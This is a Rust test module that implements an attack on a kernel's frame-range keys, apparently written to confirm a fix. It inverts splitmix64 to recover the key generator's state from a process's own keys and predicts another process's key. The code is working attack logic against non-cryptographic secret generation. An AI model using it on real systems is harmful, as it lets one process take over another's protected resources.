//! The attack on frame-range keys that `test_pipepass` makes (issue 25):
//! keys were a splitmix64 state's top 47 bits, the state stirred with the
//! time stamp counter at each `MAKE` (`s' = mix(s ^ tsc)`). splitmix's
//! output function is invertible, so a process that sees two keys of its
//! own, made one after the other, and timed the second call, has the
//! generator's whole state; with one more key of its own, made just after
//! another process's `MAKE`, it has that process's key too.

use abi::syscall::frame_range::KEY_SHIFT;
use alloc::vec;
use alloc::vec::Vec;

const GAMMA: u64 = 0x9E37_79B9_7F4A_7C15;
const M1: u64 = 0xBF58_476D_1CE4_E5B9;
const M2: u64 = 0x94D0_49BB_1331_11EB;
/// The state's bits a key leaves out (a key is its top 47).
const HIDDEN: u32 = KEY_SHIFT + 1;
/// The prefilter's index bits (a bitmap of 2^21 bits: 256 KiB).
const FILTER: u32 = 21;

/// Time stamp counter values a call ran between.
#[derive(Clone, Copy)]
pub struct Window {
    pub lo: u64,
    pub hi: u64,
}

impl Window {
    pub fn width(&self) -> u64 {
        self.hi - self.lo
    }
}

/// The key in a ticket.
pub fn key(ticket: u64) -> u64 {
    ticket >> KEY_SHIFT
}

/// splitmix64's output function.
pub fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(GAMMA);
    z = (z ^ (z >> 30)).wrapping_mul(M1);
    z = (z ^ (z >> 27)).wrapping_mul(M2);
    z ^ (z >> 31)
}

/// `mix` undone.
fn unmix(mut z: u64) -> u64 {
    z = unshift(z, 31).wrapping_mul(inverse(M2));
    z = unshift(z, 27).wrapping_mul(inverse(M1));
    unshift(z, 30).wrapping_sub(GAMMA)
}

/// `x` such that `x ^ (x >> s) == y`.
fn unshift(y: u64, s: u32) -> u64 {
    let mut x = y;
    let mut k = s;
    while k < 64 {
        x ^= y >> k;
        k += s;
    }
    x
}

/// The inverse of odd `m` modulo 2^64 (Newton's iteration).
fn inverse(m: u64) -> u64 {
    let mut x = m;
    for _ in 0..6 {
        x = x.wrapping_mul(2u64.wrapping_sub(m.wrapping_mul(x)));
    }
    x
}

/// The state behind key `k2`, made within `w` right after the state
/// behind key `k1`: `unmix(s2) = s1 ^ tsc`, whose top bits are `k1`'s xor
/// the counter's, known to within `w`; one of the 2^17 hidden parts fits.
pub fn recover(k1: u64, k2: u64, w: Window) -> Option<u64> {
    let (lo, hi) = (w.lo >> HIDDEN, w.hi >> HIDDEN);
    (0..1u64 << HIDDEN).map(|low| k2 << HIDDEN | low).find(|&s2| {
        let t = (unmix(s2) >> HIDDEN) ^ k1;
        (lo..=hi).contains(&t)
    })
}

/// The keys another process's `MAKE` within `victim` may have had, after
/// state `s2`, given the key `k4` of ours made within `own` right after
/// it: `unmix(s4) = s3 ^ tsc4`, so each hidden part of `s4` leaves one
/// `s3` per counter value in `own`, whose top bits are few; each counter
/// value in `victim` gives one `s3 = mix(s2 ^ tsc3)`, kept if it is among
/// them.
pub fn predict(s2: u64, victim: Window, k4: u64, own: Window) -> Vec<u64> {
    let m = 64 - own.width().leading_zeros();
    let mut table: Vec<(u64, u64)> = Vec::with_capacity(2 << HIDDEN);
    for low in 0..1u64 << HIDDEN {
        let y = unmix(k4 << HIDDEN | low);
        for t in own.lo >> m..=own.hi >> m {
            table.push(((y >> m) ^ t, y));
        }
    }
    table.sort_unstable();
    let mut seen = vec![0u64; 1 << (FILTER - 6)];
    let slot = |top: u64| (top & ((1 << FILTER) - 1)) as usize;
    for &(top, _) in &table {
        seen[slot(top) / 64] |= 1 << (slot(top) % 64);
    }
    let mut keys = Vec::new();
    for t3 in victim.lo..=victim.hi {
        let s3 = mix(s2 ^ t3);
        let top = s3 >> m;
        if seen[slot(top) / 64] & 1 << (slot(top) % 64) == 0 {
            continue;
        }
        let i = table.partition_point(|&(t, _)| t < top);
        for &(_, y) in table[i..].iter().take_while(|&&(t, _)| t == top) {
            if (own.lo..=own.hi).contains(&(y ^ s3)) {
                keys.push(s3 >> HIDDEN);
            }
        }
    }
    keys
}

/// The attack against a generator of the old kind run here, its calls at
/// counter values inside the windows the real ones had: whether it finds
/// the middle key (so a failure against the kernel is the kernel's doing).
pub fn works_on_model(seed: u64, own2: Window, victim: Window, own4: Window) -> bool {
    let at = |w: Window, part: u64| w.lo + w.width() / part;
    let s1 = mix(seed);
    let s2 = mix(s1 ^ at(own2, 2));
    let s3 = mix(s2 ^ at(victim, 3));
    let s4 = mix(s3 ^ at(own4, 2));
    let top = |s: u64| s >> HIDDEN;
    recover(top(s1), top(s2), own2) == Some(s2) && predict(s2, victim, top(s4), own4).contains(&top(s3))
}
